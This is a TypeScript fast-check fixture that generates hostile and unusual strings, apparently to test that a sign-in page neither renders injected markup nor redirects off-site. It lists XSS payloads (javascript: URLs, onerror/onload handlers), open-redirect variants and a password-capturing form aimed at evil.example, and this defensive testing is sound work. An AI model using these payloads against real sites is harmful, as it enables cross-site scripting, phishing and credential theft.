import fc, { type Arbitrary } from 'fast-check';

/** An attribute in all mark-up below; no element of the page may have it. */
export const MARKER = 'data-from-an-answer';

/** Addresses that an answer may contain; the page goes only to the first few. */
const ADDRESSES = [
  'https://id.example.org/oidc/auth/m3kq7v',
  'http://localhost:3000/sign-in/consent',
  '/oidc/auth/m3kq7v?a=1#b',
  'com.example.app://callback?code=1',
  'exampleapp://callback',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\nscript:alert(1)',
  'javascript://id.example.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'blob:https://id.example.org/1',
  'file:///etc/passwd',
  'intent://x#Intent;scheme=javascript;end',
  'view-source:https://id.example.org',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  '/.//evil.example',
  'https:evil.example',
  'https://id.example.org@evil.example/',
  'https://a:b@evil.example/',
  'https://',
  'https://[::1',
  'http://xn--/',
  'https://id.example.org:99999/',
  'mailto:a@example.org?bcc=b@example.org',
  'about:blank',
  '',
  '?a=1',
  '#a',
  'sign-in',
  'otpauth://totp/a?secret=A',
  'data:image/png;base64,iVBORw0KGgo=',
  'data:image/svg+xml,<svg onload="alert(1)">',
] as const;

const MARKUP = [
  `<b ${MARKER}>x</b>`,
  `<img ${MARKER} src=x onerror="alert(1)">`,
  `<script ${MARKER}>alert(1)</script>`,
  `<svg ${MARKER} onload="alert(1)">`,
  `<a ${MARKER} href="javascript:alert(1)">x</a>`,
  `<form ${MARKER} action="https://evil.example"><input name="password"></form>`,
  `<iframe ${MARKER} src="https://evil.example"></iframe>`,
  `</style><style ${MARKER}>body { display: none }</style>`,
  '<0>x</0><terms>x</terms><link>x</link>',
  '"><i>',
  '&lt;b&gt; &amp; &#x27;',
];

/** A reference to one of our texts that an answer may contain and no page may resolve. */
const NESTING = '$t(action.sign_in)';
/** Also matches a part of it, such as the rest of a name after its first letter. */
export const NESTING_IN_TEXT = /\$?t\(action\.sign_in\)/g;

/** Texts that a translator, a template or a formatter could interpret. */
const TEMPLATES = [
  '{{count}} {{name}} {{- name}}',
  NESTING,
  '$& $1 $$ %s %d %(name)s',
  '\\u0000 \\n \\x41',
  '${name}',
  ':root { --lk-radius: 0 }',
  'body { display: none !important }',
  '@import "https://evil.example/x.css";',
];

/** Texts from right to left, invisible or combining characters, and other non-Latin texts. */
const WRITINGS = [
  'مرحبا بالعالم',
  'שלום 123 world',
  '\u202Eevil\u202C',
  '\u2067a\u2069',
  '\u200B\u200C\u200D\uFEFF',
  ' \t\n\r\u00A0\u3000',
  '\u0000',
  '\u0007\u001B[31m',
  'Z\u0351\u036B\u0343'.repeat(40),
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  '\uD800',
  '漢字かな交じり文',
  'ﷺ'.repeat(60),
  'İıSS ß ﬁ',
];

const LONG = ['W'.repeat(3000), 'word '.repeat(800), `${'a'.repeat(60)}.`.repeat(30), '\n'.repeat(500)];

const ODD_WORDS = ['toString', 'constructor', '__proto__', 'hasOwnProperty', '0', '-1', 'true', '1e999', '*'];

/** Ordinary names. */
const PLAIN = [
  'Ada Lovelace',
  'ada@example.org',
  '447700900123',
  'Harbour',
  'lighthouse-web',
  'en',
  'JBSWY3DPEHPK3PXP',
  'AAECAw',
  '2024-01-01T00:00:00Z',
];

/** Any text that a schema without a pattern allows: plain, hostile, long, from right to left, or without letters. */
export const anyText: Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...PLAIN) },
  { weight: 4, arbitrary: fc.constantFrom(...ADDRESSES) },
  { weight: 2, arbitrary: fc.constantFrom(...MARKUP) },
  { weight: 2, arbitrary: fc.constantFrom(...TEMPLATES) },
  { weight: 2, arbitrary: fc.constantFrom(...WRITINGS) },
  { weight: 1, arbitrary: fc.constantFrom(...LONG) },
  { weight: 1, arbitrary: fc.constantFrom(...ODD_WORDS) },
);
